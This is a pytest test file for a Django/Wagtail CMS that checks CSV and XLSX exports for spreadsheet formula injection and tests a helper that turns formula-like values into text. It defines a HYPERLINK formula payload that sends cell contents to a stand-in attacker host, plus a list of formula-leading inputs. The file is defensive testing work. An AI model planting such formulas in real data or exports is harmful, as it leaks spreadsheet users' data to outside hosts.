"""Attack: give a page, a person or a search a name that runs as a formula in a spreadsheet.

Downloads every export of the CMS and looks for cells that a spreadsheet program would run.
"""

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook

from pages.wagtail_hooks.exports import without_formula
from people.models import User
from search.models import SearchTerm
from tests.access.addresses import addresses
from tests.access.closing import close_response
from tests.access.examples import Examples
from tests.access.guarded import GuardedSite

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.fixture
def poisoned(guarded: GuardedSite, editor: User) -> GuardedSite:
    """Return a site whose titles, names and search terms are formulas."""
    for page in (*guarded.tree.pages, *guarded.kept):
        page.title = FORMULA
        page.save_revision(user=editor, log_action=True).publish()
    User.objects.update(name=FORMULA)
    SearchTerm.objects.create(term=FORMULA, day="2026-01-01", people=5)
    return guarded


def content(response: Any) -> bytes:
    given = b"".join(response) if response.streaming else response.content
    close_response(response)
    return bytes(given)


def test_no_export_of_the_cms_holds_a_formula(
    poisoned: GuardedSite, administrator: User, client_of: Callable
) -> None:
    browser, examples = client_of(administrator), Examples(poisoned)
    exported, poisonous = 0, 0
    for address in addresses():
        if not address.route.startswith("cms/"):
            continue
        for where in examples.of(address)[:1]:
            response = browser.get(where, {"export": "csv"})
            if response.headers.get("Content-Type", "").startswith("text/csv"):
                exported += 1
                text = content(response).decode()
                poisonous += FORMULA[:10] in text
                cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
                live = [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
                assert not live, f"{where}: {live[0]}"
            else:
                close_response(response)
    assert exported >= 5
    assert poisonous >= 2


def test_a_workbook_holds_text(
    poisoned: GuardedSite, administrator: User, client_of: Callable
) -> None:
    response = client_of(administrator).get(
        "/cms/reports/site-history/", {"export": "xlsx"}
    )
    workbook = load_workbook(io.BytesIO(content(response)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert any(FORMULA in str(cell.value) for cell in cells)
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "  =1", "＝1", "\n=1"]
)
def test_what_begins_a_formula_becomes_text(value: str) -> None:
    assert without_formula(value) == f"'{value}"


@pytest.mark.parametrize("value", ["a=1", "", -1, 2.5, None, "'=1"])
def test_other_values_stay_as_they_are(value: Any) -> None:
    assert without_formula(value) == value
